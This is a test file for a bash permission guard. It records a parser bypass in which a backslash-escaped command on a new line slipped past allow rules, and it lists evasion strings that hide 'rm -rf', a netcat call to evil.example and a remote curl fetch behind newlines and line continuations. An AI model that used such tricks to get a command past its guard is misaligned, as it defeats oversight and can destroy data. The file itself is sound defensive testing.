// A line that starts with a backslash-escaped character (`\rm -rf x`, the usual way to skip an alias,
// or `\npm`, which is `npm`) is a new command to bash. The parser the guard reads shell with joined
// it to the line before as one more word: `ls⏎\rm -rf /tmp/x` read as `ls` with arguments, allowed
// by `Bash(ls:*)` while bash ran `rm -rf /tmp/x` (found by the real-bash oracle on another seed).
// Each line below is judged by the guard and, with the denied command replaced by `touch MARKER`,
// run by the real bash.
import { describe, expect, it } from "vitest";
import { bashGuard, expectBashDecision, leavesMarker, type BashExpectation } from "./helpers/bash-rules.js";

const X = "rm -rf /tmp/x";
const DENY = ["rm:*", "nc:*"];
const ALLOW = ["ls:*", "find:*", "git status:*", "echo:*", "cat:*"];

const CASES: readonly { line: string; expect: BashExpectation; reason?: RegExp }[] = [
  { line: `ls\n\\${X}`, expect: "deny" },
  { line: `ls -la\n\\${X}\n`, expect: "deny" },
  { line: `find . -name '*.txt' # note\n\\${X}`, expect: "deny" },
  { line: `ls # list\n\\${X}`, expect: "deny" },
  { line: `git status\n\\${X}`, expect: "deny" },
  { line: `ls\n\n\\${X}`, expect: "deny" },
  { line: `(ls\n\\${X})`, expect: "deny" },
  { line: `{ ls\n\\${X}; }`, expect: "deny" },
  { line: `ls &&\n\\${X}`, expect: "deny" },
  { line: `echo $(ls\n\\${X})`, expect: "deny" },
  { line: `bash -c 'ls\n\\${X}'`, expect: "deny" },
  { line: `x=1\n\\${X}`, expect: "deny" },
  { line: `ls\n\\r\\m -rf /tmp/x`, expect: "deny" },
  // A line continuation inside the script a shell, trap or eval runs (bash joins `r\⏎m` into `rm` there too).
  { line: "trap 'r\\\nm -rf /tmp/x' EXIT", expect: "deny" },
  { line: "bash -c 'r\\\nm -rf /tmp/x'", expect: "deny" },
  { line: "sh -c 'n\\\nc evil.example 4444'", expect: "deny" },
  { line: "eval 'r\\\nm -rf /tmp/x'", expect: "deny" },
  // A program the allows do not name, on the second line: not allowed, and the reason says why.
  { line: "find . -name '*.txt' # note\n\\npm run test -- --watch", expect: "not-allow", reason: /reads the line differently/ },
  { line: "ls\n\\curl -s https://example.com/x.sh", expect: "not-allow" },
  { line: "git status\n\\python3 -c 'print(1)'", expect: "not-allow" },
  // Inside quotes the newline is part of a word: one command, as written.
  { line: "echo 'a\n\\rm'", expect: "allow" },
  { line: 'echo "a\n\\\\rm"', expect: "allow" },
  { line: "ls\n \\ls -la", expect: "allow" },
];

describe("a line that starts with a backslash runs as a new command", () => {
  const guard = bashGuard(ALLOW, DENY, "shell-line-start");
  it.each(CASES.map((c) => [c.line, c] as const))("%j", (_line, c) => expectBashDecision(guard, c.line, c.expect, c.reason));
});

describe("the real bash runs the escaped line as its own command", () => {
  it.each([
    "ls\n\\touch MARKER",
    "find . -name '*.txt' # note\n\\touch MARKER",
    "ls &&\n\\touch MARKER",
    "(ls\n\\touch MARKER)",
    "x=1\n\\t\\ouch MARKER",
    "bash -c 'ls\n\\touch MARKER'",
    "trap 't\\\nouch MARKER' EXIT",
    "bash -c 't\\\nouch MARKER'",
  ])("%j", (line) => {
    const run = leavesMarker(line);
    expect(run.left, run.stderr).toBe(true);
  });

  it("and a quoted newline does not", () => {
    expect(leavesMarker("echo 'a\n\\touch MARKER'").left).toBe(false);
  });
});
